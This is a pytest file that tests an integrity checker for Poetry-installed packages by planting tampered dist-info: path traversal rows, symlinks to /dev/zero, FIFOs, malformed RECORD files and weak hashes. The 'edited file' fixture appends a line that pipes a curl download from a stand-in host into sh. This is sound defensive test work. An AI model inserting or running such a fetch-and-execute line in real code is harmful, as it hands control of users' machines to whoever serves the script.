"""A corpus of bad dist-info planted into a real Poetry-installed env.

Every case must end, within seconds, in the exact finding codes and exit code, through
``poetry lockguard check`` and the stand-alone check alike. Traps (a FIFO, /dev/zero)
would hang a checker that opened them, so the subprocess timeout proves they were not
opened for reading.
"""

from __future__ import annotations

import os

from typing import TYPE_CHECKING

import pytest

from tests.integrity.support import LOCKED_WHEELS
from tests.integrity.support import append_record
from tests.integrity.support import dist_info_of
from tests.integrity.support import rewrite_record_row
from tests.integrity.support import run_both
from tests.integrity.support import site_packages
from tests.integrity.support import without_archives
from tests.integrity.wheels import record_hash


if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.support.poetry import PoetryProject

ONE = record_hash(b"x").encode() + b",1"


def _alpha(project: PoetryProject) -> Path:
    return site_packages(project) / "alpha"


def edited_file(project: PoetryProject, outside: Path) -> None:
    with (_alpha(project) / "__init__.py").open("a") as f:
        f.write("import os; os.system('curl evil | sh')\n")


def same_size_edit(project: PoetryProject, outside: Path) -> None:
    target = _alpha(project) / "__init__.py"
    data = target.read_bytes()
    assert b"__version__" in data
    target.write_bytes(data.replace(b"__version__", b"__VERSION__"))


def deleted_file(project: PoetryProject, outside: Path) -> None:
    (_alpha(project) / "__init__.py").unlink()


def deleted_record(project: PoetryProject, outside: Path) -> None:
    (dist_info_of(project, "alpha") / "RECORD").unlink()


def path_traversal(project: PoetryProject, outside: Path) -> None:
    rel = os.path.relpath(outside / "trap", site_packages(project))
    append_record(dist_info_of(project, "alpha"), rel.encode() + b"," + ONE)


def absolute_path(project: PoetryProject, outside: Path) -> None:
    append_record(dist_info_of(project, "alpha"), str(outside / "trap").encode() + b"," + ONE)


def dev_zero_traversal(project: PoetryProject, outside: Path) -> None:
    append_record(dist_info_of(project, "alpha"), b"../" * 30 + b"dev/zero," + ONE)


def symlink_to_dev_zero(project: PoetryProject, outside: Path) -> None:
    (_alpha(project) / "zero.py").symlink_to("/dev/zero")
    append_record(dist_info_of(project, "alpha"), b"alpha/zero.py," + ONE)


def symlink_leaving_env(project: PoetryProject, outside: Path) -> None:
    (_alpha(project) / "trap.py").symlink_to(outside / "trap")
    append_record(dist_info_of(project, "alpha"), b"alpha/trap.py," + ONE)


def directory_symlink_leaving_env(project: PoetryProject, outside: Path) -> None:
    (_alpha(project) / "sub").symlink_to(outside)
    append_record(dist_info_of(project, "alpha"), b"alpha/sub/trap," + ONE)


def fifo_inside_env(project: PoetryProject, outside: Path) -> None:
    os.mkfifo(_alpha(project) / "pipe.py")
    append_record(dist_info_of(project, "alpha"), b"alpha/pipe.py," + ONE)


def record_is_fifo(project: PoetryProject, outside: Path) -> None:
    record = dist_info_of(project, "alpha") / "RECORD"
    record.unlink()
    os.mkfifo(record)


def record_is_symlink_to_dev_zero(project: PoetryProject, outside: Path) -> None:
    record = dist_info_of(project, "alpha") / "RECORD"
    record.unlink()
    record.symlink_to("/dev/zero")


def huge_record_line(project: PoetryProject, outside: Path) -> None:
    append_record(dist_info_of(project, "alpha"), b"alpha/" + b"a" * (8 * 1024 * 1024) + b"," + ONE)


def non_utf8_record(project: PoetryProject, outside: Path) -> None:
    append_record(dist_info_of(project, "alpha"), b"alpha/\xff\xfe\xc3.py," + ONE)


def duplicate_rows(project: PoetryProject, outside: Path) -> None:
    dist_info = dist_info_of(project, "alpha")
    first = (dist_info / "RECORD").read_bytes().splitlines()[0]
    append_record(dist_info, first)


def missing_metadata(project: PoetryProject, outside: Path) -> None:
    (dist_info_of(project, "alpha") / "METADATA").unlink()


def unknown_algorithm(project: PoetryProject, outside: Path) -> None:
    dist_info = dist_info_of(project, "alpha")
    record = dist_info / "RECORD"
    record.write_bytes(
        record.read_bytes().replace(b"alpha/__init__.py,sha256=", b"alpha/__init__.py,sha257=")
    )


def weak_algorithm(project: PoetryProject, outside: Path) -> None:
    dist_info = dist_info_of(project, "alpha")
    rewrite_record_row(dist_info, "alpha/__init__.py", None)
    append_record(dist_info, b"alpha/__init__.py,md5=1B2M2Y8AsgTpgAmY7PhCfg,0")


def malformed_rows(project: PoetryProject, outside: Path) -> None:
    append_record(
        dist_info_of(project, "alpha"),
        b"alpha/x.py,sha256=not-base64!,1",
        b"alpha/y.py," + record_hash(b"x").encode() + b",-5",
        b"only-two,fields",
    )


CASES: list[tuple[str, Callable[[PoetryProject, Path], None], list[str]]] = [
    ("edited file", edited_file, ["file-modified"]),
    ("same-size edit", same_size_edit, ["file-modified"]),
    ("deleted file", deleted_file, ["file-missing"]),
    # Without its RECORD, nothing owns what the package installed.
    ("deleted RECORD", deleted_record, ["record-missing", "unowned-file"]),
    ("path traversal", path_traversal, ["file-not-in-archive"]),
    ("absolute path", absolute_path, ["file-not-in-archive"]),
    ("/dev/zero through ..", dev_zero_traversal, ["file-not-in-archive"]),
    ("symlink to /dev/zero", symlink_to_dev_zero, ["file-not-in-archive"]),
    ("symlink leaving the env", symlink_leaving_env, ["file-not-in-archive"]),
    (
        "directory symlink leaving the env",
        directory_symlink_leaving_env,
        ["file-not-in-archive", "unowned-file"],
    ),
    ("FIFO in the env", fifo_inside_env, ["file-not-in-archive"]),
    ("RECORD is a FIFO", record_is_fifo, ["record-invalid", "unowned-file"]),
    (
        "RECORD is a symlink to /dev/zero",
        record_is_symlink_to_dev_zero,
        ["record-invalid", "unowned-file"],
    ),
    ("several-MB RECORD line", huge_record_line, ["record-invalid"]),
    ("non-UTF-8 RECORD", non_utf8_record, ["record-invalid"]),
    ("duplicate rows", duplicate_rows, ["record-invalid"]),
    ("missing METADATA", missing_metadata, ["file-missing", "invalid-distribution", "missing"]),
    ("unknown algorithm", unknown_algorithm, ["record-invalid"]),
    ("weak algorithm", weak_algorithm, ["record-invalid"]),
    ("malformed rows", malformed_rows, ["record-invalid"] * 3),
]


@pytest.mark.parametrize(("plant", "codes"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_dist_info(
    installed: PoetryProject,
    tmp_path: Path,
    plant: Callable[[PoetryProject, Path], None],
    codes: list[str],
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    os.mkfifo(outside / "trap")
    plant(installed, outside)
    for result in run_both(installed, "--integrity", "--format", "json", timeout=60):
        assert result.returncode == 1, result.output
        assert result.codes() == codes, result.output
        assert "Traceback" not in result.stderr


#: A row the locked archive does not ship is ``file-not-in-archive`` before anything
#: reads the file; without the archive, the installed RECORD's row is checked as such.
ROWS_OUTSIDE_THE_ARCHIVE = [c for c in CASES if c[2][0] == "file-not-in-archive"]


@pytest.mark.parametrize(
    "plant", [c[1] for c in ROWS_OUTSIDE_THE_ARCHIVE], ids=[c[0] for c in ROWS_OUTSIDE_THE_ARCHIVE]
)
def test_hostile_row_without_the_archive_is_record_invalid(
    installed: PoetryProject, tmp_path: Path, plant: Callable[[PoetryProject, Path], None]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    os.mkfifo(outside / "trap")
    plant(installed, outside)
    env = without_archives(installed)
    for result in run_both(installed, "--integrity", "--format", "json", timeout=60, env=env):
        assert result.returncode == 1, result.output
        unowned = [("unowned-file", None)] if plant is directory_symlink_leaving_env else []
        assert result.findings() == [
            ("record-invalid", "alpha"),
            *(("unanchored", name) for name in LOCKED_WHEELS),
            *unowned,
        ], result.output


def test_clean_env_with_bin_script_passes(installed: PoetryProject) -> None:
    record = (dist_info_of(installed, "lg-tool") / "RECORD").read_text()
    assert "../../../bin/lg-tool," in record
    for result in run_both(installed, "--integrity", "--format", "json"):
        assert result.returncode == 0, result.output
        assert result.codes() == []
        assert result.json()["summary"]["files_checked"] > 10


def test_messages_name_the_row(installed: PoetryProject, tmp_path: Path) -> None:
    non_utf8_record(installed, tmp_path)
    symlink_to_dev_zero(installed, tmp_path)
    results = run_both(installed, "--integrity", "--format", "json")
    for result in results:
        messages = sorted(f["message"] for f in result.json()["findings"])
        assert any("is not valid UTF-8" in m for m in messages), messages
        assert any(
            "alpha/zero.py is listed in the installed RECORD, but the locked archive"
            " alpha-2.0.0-py3-none-any.whl (Poetry's artifact cache) does not ship it" in m
            for m in messages
        ), messages
    for result in run_both(
        installed, "--integrity", "--format", "json", env=without_archives(installed)
    ):
        messages = sorted(f["message"] for f in result.json()["findings"])
        assert any("is a symlink to /dev/zero, outside the environment" in m for m in messages)
